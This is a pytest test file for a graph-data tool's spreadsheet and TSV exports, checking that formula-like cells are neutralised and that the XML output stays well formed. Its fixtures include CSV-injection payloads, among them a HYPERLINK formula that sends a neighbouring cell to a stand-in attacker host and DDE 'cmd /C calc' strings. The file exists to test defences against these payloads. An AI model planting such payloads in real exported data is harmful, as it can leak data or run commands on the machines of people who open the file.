"""Spreadsheet exports: the data tables back from the graph cell for cell, and CSV Excel cannot run."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from defusedxml.ElementTree import fromstring as defused_fromstring
from rdflib import Graph, Literal, URIRef

from sendgraph.ask.sparql import Answer, Term
from sendgraph.cli import main
from sendgraph.graph.build import Build, build_graph, default_data_folder
from sendgraph.show.exports import TABLES, export_tables, table_files
from sendgraph.show.tables import (
    XML_FORBIDDEN,
    neutralise,
    render_answer,
    render_csv,
    render_rows,
    xml_escape,
    xml_forbidden,
    xml_safe,
)
from tests.helpers import edit

# A cell that, opened in Excel, sends the cell beside it to another site when clicked.
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the full plan")'
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+44 114 296 5000"
# A legitimate cell that starts with a dash: safe mode puts a quote before it too.
DASH = "-2 weeks behind the plan"
NOTICE = (
    "5 cells start with = + - @ tab or CR and were written behind a ' so that Excel shows "
    "them as text; --lossless writes them exactly.\n"
)


def formula_data(folder: Path) -> Path:
    """Copy the bundled data into ``folder`` and put formula-like text in five cells."""
    target = folder / "data"
    shutil.copytree(default_data_folder(), target)
    edit(target, "actions", "ref", "PR 1", action=FORMULA)
    edit(target, "actions", "ref", "PR 2", note=AT)
    edit(target, "actions", "ref", "JCP 3.3", status=DASH)
    edit(target, "peer_challenge", "ref", "PC 1.1", identified_action=FORMULA)
    edit(target, "ccg_gaps", "ref", "CCG 2", note=PLUS)
    return target


@pytest.fixture(scope="module")
def formulas(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return formula_data(tmp_path_factory.mktemp("formulas"))


def run(*args: str) -> Result:
    return CliRunner().invoke(main, list(args))


def parsed(payload: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(payload.decode("utf-8-sig"), newline="")))


# ---------------------------------------------------------------- the data back from the graph


def test_the_rotherham_tables_come_back_byte_for_byte(rotherham: Build) -> None:
    tables = export_tables(rotherham.graph)
    assert [(t.folder, t.name, len(t.rows)) for t in tables] == [
        ("data", "actions", 83),
        ("data", "priorities", 10),
        ("data", "ccg_gaps", 4),
        ("data", "peer_challenge", 24),
    ]
    assert sum(t.formula_like_cells() for t in tables) == 0
    expected = {
        f"{name}.csv": (default_data_folder() / f"{name}.csv").read_bytes() for name in TABLES
    }
    assert table_files(tables, safe=False) == expected
    assert table_files(tables, safe=True) == expected


def test_export_csv_writes_the_tables_into_a_folder(tmp_path: Path) -> None:
    out = tmp_path / "tables"
    result = run("export", "-f", "csv", "-o", str(out))
    assert result.exit_code == 0, result.output
    assert result.stdout == f"Wrote 4 tables (121 rows) to {out}\n"
    assert result.stderr == ""
    assert sorted(p.name for p in out.iterdir()) == [
        "actions.csv",
        "ccg_gaps.csv",
        "peer_challenge.csv",
        "priorities.csv",
    ]
    assert (out / "actions.csv").read_bytes() == (
        default_data_folder() / "actions.csv"
    ).read_bytes()


def test_export_csv_of_a_graph_file_recovers_its_data(tmp_path: Path) -> None:
    graph_file = tmp_path / "published.nt"
    assert run("build", "-o", str(graph_file), "-f", "nt", "--no-validate").exit_code == 0
    out = tmp_path / "recovered"
    result = run("export", "-f", "csv", "--data", str(graph_file), "-o", str(out), "--lossless")
    assert result.exit_code == 0, result.output
    for name in TABLES:
        assert (out / f"{name}.csv").read_bytes() == (
            default_data_folder() / f"{name}.csv"
        ).read_bytes()


def test_export_csv_refuses_a_file_as_its_folder(tmp_path: Path) -> None:
    target = tmp_path / "tables.csv"
    target.write_text("mine\n", encoding="utf-8")
    result = run("export", "-f", "csv", "-o", str(target))
    assert result.exit_code == 2
    assert result.stderr == f"Error: {target} is a file; -f csv writes a folder of tables.\n"
    assert target.read_text(encoding="utf-8") == "mine\n"


def test_export_csv_of_data_with_errors_writes_nothing(tmp_path: Path, data_copy: Path) -> None:
    edit(data_copy, "actions", "ref", "PR 1", plan="no-such-plan")
    out = tmp_path / "tables"
    result = run("export", "-f", "csv", "--data", str(data_copy), "-o", str(out))
    assert result.exit_code == 1
    assert result.stderr == "Error: the data has 1 errors; run `sendgraph validate` to see them.\n"
    assert not out.exists()


# ---------------------------------------------------------------- safe and lossless


def test_export_csv_is_safe_by_default_and_lossless_on_request(
    tmp_path: Path, formulas: Path
) -> None:
    safe, lossless = tmp_path / "safe", tmp_path / "lossless"
    result = run("export", "-f", "csv", "--data", str(formulas), "-o", str(safe))
    assert result.exit_code == 0, result.output
    assert result.stderr == NOTICE
    result = run("export", "-f", "csv", "--data", str(formulas), "-o", str(lossless), "--lossless")
    assert result.exit_code == 0, result.output
    assert result.stderr == ""
    for name in TABLES:
        # Lossless gives the data files back exactly, formulas and all.
        assert (lossless / f"{name}.csv").read_bytes() == (formulas / f"{name}.csv").read_bytes()
    changed = {
        (name, r, c, cell)
        for name in TABLES
        for r, (safe_row, raw_row) in enumerate(
            zip(
                parsed((safe / f"{name}.csv").read_bytes()),
                parsed((lossless / f"{name}.csv").read_bytes()),
                strict=True,
            )
        )
        for c, (cell, raw) in enumerate(zip(safe_row, raw_row, strict=True))
        if cell != raw and cell == neutralise(raw)
    }
    assert changed == {
        ("actions", 11, 4, "'" + FORMULA),
        ("actions", 12, 9, "'" + AT),
        ("actions", 57, 8, "'" + DASH),
        ("peer_challenge", 8, 5, "'" + FORMULA),
        ("ccg_gaps", 2, 4, "'" + PLUS),
    }
    assert (
        b',"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for the full plan"")",'
        in (safe / "actions.csv").read_bytes()
    )


def test_query_csv_and_tsv_neutralise_formulas_unless_lossless(formulas: Path) -> None:
    text = (
        'SELECT ?ref ?text WHERE { ?a skos:notation ?ref ; sg:text ?text . FILTER(?ref = "PR 1") }'
    )
    status = (
        "SELECT ?ref ?status WHERE { ?a skos:notation ?ref ; sg:progressEntry/sg:statusText ?status ."
        ' FILTER(?ref = "JCP 3.3") }'
    )
    expected = {
        (text, "csv", "--safe"): 'ref,text\nPR 1,"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for the full plan"")"\n',
        (text, "csv", "--lossless"): 'ref,text\nPR 1,"=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for the full plan"")"\n',
        (text, "tsv", "--safe"): '?ref\t?text\n"PR 1"\t"\'=HYPERLINK(\\"https://evil.example/?leak=\\"&A1,\\"Click for the full plan\\")"\n',
        (text, "tsv", "--lossless"): '?ref\t?text\n"PR 1"\t"=HYPERLINK(\\"https://evil.example/?leak=\\"&A1,\\"Click for the full plan\\")"\n',
        (status, "csv", "--safe"): "ref,status\nJCP 3.3,'-2 weeks behind the plan\n",
        (status, "csv", "--lossless"): "ref,status\nJCP 3.3,-2 weeks behind the plan\n",
        (status, "tsv", "--safe"): '?ref\t?status\n"JCP 3.3"\t"\'-2 weeks behind the plan"\n',
        (status, "tsv", "--lossless"): '?ref\t?status\n"JCP 3.3"\t"-2 weeks behind the plan"\n',
    }  # fmt: skip
    for (query, fmt, mode), output in expected.items():
        result = run("query", query, "--data", str(formulas), "-f", fmt, mode)
        assert result.exit_code == 0, result.output
        assert result.stdout == output, (query, fmt, mode)
    default = run("query", status, "--data", str(formulas), "-f", "csv")
    assert default.stdout == expected[(status, "csv", "--safe")]


def test_gaps_csv_neutralises_the_quotes_it_shows(formulas: Path) -> None:
    def quotes(*mode: str) -> set[tuple[str, str, str]]:
        result = run(
            "gaps", "--data", str(formulas), "--only", "no-owner", "--only", "status-outside-scheme",
            "-f", "csv", *mode,
        )  # fmt: skip
        assert result.exit_code == 0, result.output
        rows = csv.DictReader(io.StringIO(result.stdout, newline=""))
        return {(r["rule"], r["ref"], r["quote"]) for r in rows if r["quote"][:2] in ("'=", "'-", "=H", "-2")}  # fmt: skip

    assert quotes() == {
        ("no-owner", "PC 1.1 identified action", "'" + FORMULA),
        ("status-outside-scheme", "JCP 3.3", "'" + DASH),
    }
    assert quotes("--lossless") == {
        ("no-owner", "PC 1.1 identified action", FORMULA),
        ("status-outside-scheme", "JCP 3.3", DASH),
    }


def test_question_commands_csv_neutralises_formulas(formulas: Path) -> None:
    result = run("owner", "Sue Wilson", "--data", str(formulas), "-f", "csv")
    assert result.exit_code == 0, result.output
    assert "JCP 3.3,owner,,'-2 weeks behind the plan\n" in result.stdout
    lossless = run("owner", "Sue Wilson", "--data", str(formulas), "-f", "csv", "--lossless")
    assert "JCP 3.3,owner,,-2 weeks behind the plan\n" in lossless.stdout


def test_render_rows_neutralises_each_formula_start_and_nothing_else() -> None:
    cells = ["=1+2", "+1", "-1", "@x", "\tx", "\rx", "a=b", "", " =1", "’=x", "'=x"]
    rows = [{"n": str(i), "cell": cell} for i, cell in enumerate(cells)]
    assert render_rows(rows, "csv", safe=True) == (
        "n,cell\n0,'=1+2\n1,'+1\n2,'-1\n3,'@x\n4,'\tx\n5,\"'\rx\"\n6,a=b\n7,\n8, =1\n9,’=x\n10,'=x\n"
    )
    assert render_rows(rows, "csv") == (
        'n,cell\n0,=1+2\n1,+1\n2,-1\n3,@x\n4,\tx\n5,"\rx"\n6,a=b\n7,\n8, =1\n9,’=x\n10,\'=x\n'
    )
    # JSON and text tables are not for spreadsheets: safe leaves them alone.
    assert render_rows(rows, "json", safe=True) == render_rows(rows, "json")
    assert render_rows(rows, "table", safe=True) == render_rows(rows, "table")


def test_render_csv_writes_excel_line_ends_and_neutralises_only_data() -> None:
    assert (
        render_csv(["=head", "b"], [["=1", "x\ny"]], safe=True, line_end="\r\n")
        == '=head,b\r\n\'=1,"x\ny"\r\n'
    )


def test_the_exported_tables_build_back_to_the_same_cells(tmp_path: Path, rotherham: Build) -> None:
    folder = tmp_path / "data"
    shutil.copytree(default_data_folder(), folder)
    for name, payload in table_files(export_tables(rotherham.graph), safe=False).items():
        (folder / name).write_bytes(payload)
    rebuilt = build_graph(folder, validate=False)
    assert [t.rows for t in export_tables(rebuilt.graph)] == [
        t.rows for t in export_tables(rotherham.graph)
    ]


# ---------------------------------------------------------------- hostile cells, well-formed files

# Cells that try to end a TSV row or cell, start a formula on a new row, or break XML.
HOSTILE_CELLS = [
    "first line\rsecond",
    "=1+2\r=cmd|' /C calc'!A0",
    "a\r\nb\nc\td",
    "\r",
    'tab\tthen\\backslash and "quotes"',
    "vertical\x0btab, form\x0cfeed, NUL\x00, escape\x1b",
    "line\u2028separator\x85next line\x1crecord",
]


def hostile_answer() -> Answer:
    return Answer(
        "select",
        ["s", "text"],
        [
            {
                "s": Term("uri", f"https://e.org/{i}"),
                "text": Term("literal", cell, lang="en" if i % 2 else None),
            }
            for i, cell in enumerate(HOSTILE_CELLS)
        ],
    )


@pytest.mark.parametrize("safe", [True, False], ids=["safe", "lossless"])
def test_tsv_answers_escape_every_line_break_and_tab_inside_a_cell(safe: bool) -> None:
    """SPARQL 1.1 TSV writes terms in Turtle: a CR inside a literal is written ``\\r``."""
    text = render_answer(hostile_answer(), "tsv", safe=safe)
    assert "\r" not in text
    lines = text.split("\n")
    assert lines.pop() == ""
    assert text.splitlines() == lines
    assert len(lines) == len(HOSTILE_CELLS) + 1
    assert all(line.count("\t") == 1 for line in lines)
    assert lines[1] == '<https://e.org/0>\t"first line\\rsecond"'
    # Each cell reads back, as Turtle, as the literal it was (behind a ' when made safe).
    for row, line in zip(hostile_answer().rows, lines[1:], strict=True):
        subject, term = line.split("\t")
        graph = Graph().parse(data=f"{subject} <https://e.org/p> {term} .", format="turtle")
        [value] = graph.objects()
        assert str(value) == (neutralise(row["text"].value) if safe else row["text"].value)


def test_query_tsv_never_splits_a_row_safe_or_lossless(tmp_path: Path) -> None:
    """The command reads hostile literals from a graph file and writes one line a row."""
    graph = Graph()
    for i, cell in enumerate(HOSTILE_CELLS):
        graph.add((URIRef(f"https://e.org/{i}"), URIRef("https://e.org/p"), Literal(cell)))
    data = tmp_path / "hostile.nt"
    graph.serialize(data, format="nt", encoding="utf-8")
    query = "SELECT ?s ?text WHERE { ?s <https://e.org/p> ?text } ORDER BY ?s"
    for mode in ("--safe", "--lossless"):
        result = run("query", query, "--data", str(data), "-f", "tsv", mode)
        assert result.exit_code == 0, result.output
        assert "\r" not in result.stdout
        assert len(result.stdout.splitlines()) == len(HOSTILE_CELLS) + 1
        quote = "'" if mode == "--safe" else ""
        assert f"<https://e.org/1>\t\"{quote}=1+2\\r=cmd|' /C calc'!A0\"\n" in result.stdout


@pytest.fixture(scope="module")
def control_characters(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The bundled data with XML-forbidden characters in SEND 4's action and owner."""
    target = tmp_path_factory.mktemp("controls") / "data"
    shutil.copytree(default_data_folder(), target)
    edit(target, "actions", "ref", "SEND 4", action="Sept 17\x0bDec 17\x00 and \x1b[31m red")
    return target


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_graphml_and_gexf_of_control_characters_are_xml_and_say_what_was_replaced(
    tmp_path: Path, control_characters: Path, fmt: str
) -> None:
    out = tmp_path / f"network.{fmt}"
    result = run("export", "--data", str(control_characters), "-f", fmt, "-o", str(out))
    assert result.exit_code == 0, result.output
    document = out.read_bytes()
    tree = defused_fromstring(document)  # a strict parser: the file is well-formed XML
    texts = [
        value
        for element in tree.iter()
        for value in [element.text, *element.attrib.values()]
        if value
    ]
    assert "Sept 17\ufffdDec 17\ufffd and \ufffd[31m red" in texts
    assert not any(XML_FORBIDDEN.search(text) for text in texts)
    warnings = result.stderr.splitlines()
    assert len(warnings) >= 1
    assert all(line.startswith(f"{out}: warning: node ") for line in warnings)
    assert any(
        line.endswith(
            " text: U+000B, U+0000, U+001B cannot be written in XML; they are written as U+FFFD."
        )
        for line in warnings
    ), warnings
    assert result.stdout.startswith(f"Wrote {out} (")


def test_the_network_of_the_bundled_data_needs_no_replacement(tmp_path: Path) -> None:
    out = tmp_path / "network.graphml"
    result = run("export", "-f", "graphml", "-o", str(out))
    assert result.exit_code == 0, result.output
    assert result.stderr == ""
    defused_fromstring(out.read_bytes())


def test_xml_safe_replaces_exactly_what_xml_cannot_hold() -> None:
    allowed = "\t\n\r -~\x7f\x85\xa0\ud7ff\ue000\ufffd\U00010000\U0010ffff"
    assert xml_safe(allowed) == allowed
    forbidden = "".join(
        chr(c) for c in [*range(0x20), 0xFFFE, 0xFFFF, 0xD800, 0xDFFF] if chr(c) not in "\t\n\r"
    )
    assert xml_safe(forbidden) == "\ufffd" * len(forbidden)
    assert xml_forbidden("a\x0bb\x00\x0b") == ["U+000B", "U+0000"]


def test_xml_escape_gives_back_each_cell_as_it_was_or_with_u_fffd() -> None:
    for cell in HOSTILE_CELLS:
        element = defused_fromstring(f'<a b="{xml_escape(cell)}">{xml_escape(cell)}</a>')
        assert element.text == element.attrib["b"] == xml_safe(cell)


def test_the_endpoint_tsv_never_splits_a_row(tmp_path: Path) -> None:
    import urllib.parse
    import urllib.request

    from tests.server import executable, free_port, running

    graph = Graph()
    for i, cell in enumerate(HOSTILE_CELLS):
        graph.add((URIRef(f"https://e.org/{i}"), URIRef("https://e.org/p"), Literal(cell)))
    data = tmp_path / "hostile.nt"
    graph.serialize(data, format="nt", encoding="utf-8")
    port = free_port()
    base = f"http://127.0.0.1:{port}/"
    query = "SELECT ?s ?text WHERE { ?s <https://e.org/p> ?text } ORDER BY ?s"
    with running(
        [executable("sendgraph"), "serve", "--data", str(data), "--port", str(port)], base
    ):
        request = urllib.request.Request(
            base + "sparql?" + urllib.parse.urlencode({"query": query}),
            headers={"Accept": "text/tab-separated-values"},
        )
        with urllib.request.urlopen(request, timeout=30) as response:
            body = response.read().decode("utf-8")
    assert "\r" not in body
    assert len(body.splitlines()) == len(HOSTILE_CELLS) + 1
    assert "<https://e.org/1>\t\"=1+2\\r=cmd|' /C calc'!A0\"\n" in body
